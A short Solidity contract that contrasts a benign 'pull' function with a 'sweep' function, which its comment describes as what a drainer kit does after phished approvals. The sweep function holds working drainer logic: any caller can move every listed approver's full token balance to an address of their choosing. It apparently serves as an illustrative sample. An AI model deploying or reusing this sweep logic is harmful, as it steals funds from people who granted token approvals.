// SPDX-License-Identifier: MIT
// Pulls approved tokens: `pull` takes the caller's own tokens (a router, benign); `sweep` takes
// every listed approver's whole balance (what a drainer kit does after phished approvals).
pragma solidity ^0.8.20;

interface IERC20 {
    function balanceOf(address) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

contract Sweeper {
    function pull(IERC20 token, uint256 value) external {
        token.transferFrom(msg.sender, address(this), value);
    }

    function sweep(IERC20 token, address[] calldata victims, address to) external {
        for (uint256 i = 0; i < victims.length; i++) {
            token.transferFrom(victims[i], to, token.balanceOf(victims[i]));
        }
    }
}
